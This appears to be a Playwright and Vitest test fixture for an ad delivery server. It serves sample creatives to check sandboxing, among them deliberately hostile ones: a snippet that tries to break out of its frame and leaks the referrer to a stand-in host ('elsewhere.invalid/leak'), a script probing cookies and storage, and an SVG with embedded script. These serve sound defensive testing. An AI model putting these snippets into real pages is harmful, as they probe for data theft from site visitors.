import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import sharp from 'sharp';
import { afterAll, afterEach, beforeAll, beforeEach, expect, vi } from 'vitest';
import { checkBundle, type SnapshotCreative } from '../../server/inventory/index.ts';
import { buildBundle, launchBrowser } from '../support/browser.ts';
import { imageHash, inventoryOf, oneOfEach } from '../support/creatives.ts';
import { type LoggedEvent, type TestDelivery, testAddresses, testDelivery } from '../support/delivery.ts';
import { zipOf } from '../support/zip.ts';
import { type Publisher, startPublisher } from './publisher.ts';
import { type ReverseProxy, startReverseProxy } from './reverse-proxy.ts';

export const svgHash = 'd'.repeat(64);

const bundlePage = `<!doctype html><html><head>
<script>var clickTag = "https://elsewhere.invalid/";</script>
</head><body style="margin:0"><div id="area" style="width:302px;height:250px;background:#c44">ad</div>
<script src="ad.js"></script></body></html>`;
/** Tries what an advertiser must not be able to do, and says what came of it. */
const bundleScript = `
const attempt = (action) => { try { return String(action()); } catch (error) { return error.name; } };
window.report = {
  origin: self.origin,
  cookie: attempt(() => document.cookie),
  storage: attempt(() => localStorage.length),
  parent: attempt(() => parent.document.title),
  clickTag,
  second: window.clickTag2,
};
document.getElementById('area').onclick = () => window.open(clickTag);
`;
/** A snippet that tries to get out of its frame, and to click on itself. */
const hostileSnippet = `<script>
const attempt = (action) => { try { return String(action()); } catch (error) { return error.name; } };
window.report = {
  top: attempt(() => { top.location = 'https://elsewhere.invalid/'; return 'left'; }),
  parent: attempt(() => parent.document.title),
  database: attempt(() => indexedDB.open('x') && 'opened'),
  worker: attempt(() => navigator.serviceWorker.register('/tag.js') && 'asked'),
};
fetch('{click_url}', { mode: 'no-cors' }).catch(() => {}).then(() => { window.done = true; });
new Image().src = 'https://elsewhere.invalid/leak?' + document.referrer;
</script>`;
/** A picture that would run scripts, were it ever more than a picture. */
export const scriptedSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="306" height="250" onload="document.documentElement.setAttribute('data-ran','1')"><rect width="306" height="250" fill="teal"/><script>document.documentElement.setAttribute('data-ran','1');fetch('/v1/ran')</script></svg>`;

/** The real delivery, Chromium, and a publisher's site on another origin. */
export interface CreativesStage {
  /** Its origin is that of a proxy by which all visitors are in Taipei. */
  readonly delivery: TestDelivery;
  readonly publisher: Publisher;
  readonly context: BrowserContext;
  readonly page: Page;
  /** Origins that anything in the browser asked. */
  readonly origins: ReadonlySet<string>;
  open(body: string, head?: string): Promise<void>;
  logged(type: string): LoggedEvent[];
  counted(type: string, count: number): Promise<void>;
}

/** Zones 1 to 5 have the creatives of `oneOfEach`, zone 6 an SVG image, zone 7 a hostile snippet. */
export function creativesStage(): CreativesStage {
  let browser: Browser;
  let delivery: TestDelivery;
  let publisher: Publisher;
  let proxy: ReverseProxy;
  let context: BrowserContext;
  let page: Page;
  let seenBefore = 0;
  const origins = new Set<string>();

  beforeAll(async () => {
    const build = (name: 'tag' | 'more' | 'consent' | 'frame' | 'click-tag') =>
      buildBundle(`server/tag/${name}.ts`).then((code) => Buffer.from(code));
    const [tag, more, consent, frame, clickTag] = await Promise.all([
      build('tag'),
      build('more'),
      build('consent'),
      build('frame'),
      build('click-tag'),
    ]);
    [browser, publisher] = await Promise.all([launchBrowser(), startPublisher()]);
    // Names the visitor's address: as an extra header of the browser it would ask for preflights.
    proxy = await startReverseProxy(testAddresses.taipei);
    const bundle = await checkBundle(
      zipOf([
        { name: 'index.html', content: bundlePage },
        { name: 'ad.js', content: bundleScript },
      ]),
    );
    const creatives: SnapshotCreative[] = oneOfEach(`${publisher.origin}/landing`).map((creative) =>
      creative.type === 'html5' ? { ...creative, asset: `${bundle.hash}.bundle` } : creative,
    );
    creatives.push({
      ...{ id: 6, type: 'image', width: 306, height: 250, alt: 'SVG', asset: `${svgHash}.svg` },
      clickUrl: `${publisher.origin}/landing`,
    });
    creatives.push({
      ...{
        id: 7,
        type: 'html',
        width: 307,
        height: 250,
        alt: 'Hostile',
        thirdParty: false,
        html: hostileSnippet,
      },
      clickUrl: `${publisher.origin}/landing`,
    });
    delivery = await testDelivery(inventoryOf(creatives), {
      scripts: { tag, more, consent, frame, clickTag },
      publicUrl: proxy.origin,
      now: Date.now,
    });
    proxy.target = delivery.origin;
    const assets = join(delivery.dataDir, 'assets');
    mkdirSync(assets);
    const png = await sharp({ create: { width: 301, height: 250, channels: 3, background: 'teal' } })
      .png()
      .toBuffer();
    writeFileSync(join(assets, `${imageHash}.png`), png);
    writeFileSync(join(assets, `${'c'.repeat(64)}.png`), png);
    writeFileSync(join(assets, `${svgHash}.svg`), scriptedSvg);
    writeFileSync(join(assets, `${bundle.hash}.bundle`), bundle.pack);
  });
  afterAll(async () => {
    await browser?.close();
    await proxy?.close();
    await delivery?.close();
    await publisher?.close();
  });
  beforeEach(async () => {
    publisher.pages.clear();
    publisher.pages.set('/landing', '<!doctype html><title>Landing</title><link rel="icon" href="data:,">');
    publisher.headers.clear();
    origins.clear();
    seenBefore = delivery.events().length;
    context = await browser.newContext({
      viewport: { width: 1000, height: 800 },
    });
    context.on('request', (request) => void origins.add(new URL(request.url()).origin));
    page = await context.newPage();
  });
  afterEach(() => context.close());

  const stage: CreativesStage = {
    get delivery() {
      return { ...delivery, origin: proxy.origin };
    },
    get publisher() {
      return publisher;
    },
    get context() {
      return context;
    },
    get page() {
      return page;
    },
    origins,
    async open(body, head = `<script async src="${proxy.origin}/tag.js"></script>`) {
      const icon = '<link rel="icon" href="data:,">';
      publisher.pages.set('/', `<!doctype html><title>A page</title>${icon}${head}<body>${body}</body>`);
      await page.goto(`${publisher.origin}/`);
    },
    logged: (type) =>
      delivery
        .events()
        .slice(seenBefore)
        .filter((event) => event.type === type),
    counted: (type, count) =>
      vi.waitFor(() => expect(stage.logged(type)).toHaveLength(count), { timeout: 20_000, interval: 50 }),
  };
  return stage;
}
